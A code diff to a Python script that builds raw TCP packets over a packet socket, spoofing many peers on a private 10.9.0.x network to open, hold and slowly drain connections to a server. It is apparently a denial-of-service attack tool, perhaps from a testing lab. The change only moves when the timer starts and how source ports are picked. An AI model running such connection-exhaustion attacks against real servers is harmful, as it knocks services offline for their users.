@@ -14,7 +14,7 @@ import collections, os, random, socket, struct, sys, time
 
 interface, mac, address, port, attack, seconds = sys.argv[1:7]
 rate = float(sys.argv[7]) if len(sys.argv) > 7 else 4000
-port, end = int(port), time.monotonic() + float(seconds)
+port, end = int(port), time.monotonic() + 60
 packet = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
 packet.bind((interface, 0))
 packet.settimeout(0.5)
@@ -67,7 +67,9 @@ Seen = collections.namedtuple("Seen", "peer seq ack flags length")
 
 def read(frame):
     """A segment of the server's for the attacker, or None."""
-    if len(frame) < 54 or frame[33] < 100 or frame[23] != 6 or frame[26:30] != server or struct.unpack("!H", frame[34:36])[0] != port:
+    if len(frame) < 54 or frame[33] < 100 or frame[23] != 6 or frame[26:30] != server:
+        return None
+    if struct.unpack("!H", frame[34:36])[0] != port:
         return None
     length = struct.unpack("!H", frame[16:18])[0] - 20 - (frame[46] >> 4) * 4
     return Seen((socket.inet_ntoa(frame[30:34]), struct.unpack("!H", frame[36:38])[0]),
@@ -113,16 +115,24 @@ def connect(peer, mss=1460, first=b""):
 
 
 def peers(n):
-    return [("10.9.0.%d" % (100 + i % 100), random.randrange(1024, 65000) // 64 * 64 + i % 64) for i in range(n)]
+    first = random.randrange(1024, 65000)
+    return [("10.9.0.%d" % (100 + i % 100), first + i) for i in range(n)]
 
 
 def connect_all(n, **how):
     return [(peer, number) for peer in peers(n) for number in [connect(peer, **how)] if number is not None]
 
 
+def begin(n):
+    """From here the seconds count."""
+    global end
+    print("connected", n, flush=True)
+    end = time.monotonic() + float(seconds)
+
+
 def connected(n):
     made = connect_all(n)
-    print("connected", len(made), flush=True)
+    begin(len(made))
     return made
 
 
@@ -139,7 +149,7 @@ def holes():
 
 
 def strays():
-    print("connected 0", flush=True)
+    begin(0)
     answered = 0
     while time.monotonic() < end:
         peer = ("10.9.0.%d" % random.randrange(100, 250), random.randrange(1024, 65536))
@@ -200,7 +210,7 @@ def pull():
             if seen.peer in streams:
                 streams[seen.peer].note(seen)
         if not said and time.monotonic() >= opened:
-            print("connected", len(streams), flush=True)
+            begin(len(streams))
             said = True
         for stream in streams.values():
             if attack == "tiny" or not said or stream.out() < 8:
